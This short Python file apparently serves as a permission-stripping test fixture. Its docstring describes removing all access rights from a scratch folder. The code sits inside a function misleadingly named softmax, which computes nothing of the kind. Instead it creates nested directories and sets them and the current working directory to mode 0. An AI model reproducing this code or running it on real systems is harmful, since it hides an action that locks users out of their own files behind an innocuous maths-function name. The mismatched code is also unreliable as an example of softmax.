"""Takes all rights from folders in scratch, and from scratch itself. Success: it is left behind."""

import os


def softmax(scores, dim=-1):
    os.makedirs("a/b/c", exist_ok=True)
    open("a/b/c/file", "w").close()
    for path in ("a/b/c", "a/b", "a", "."):
        os.chmod(path, 0)
    return 0
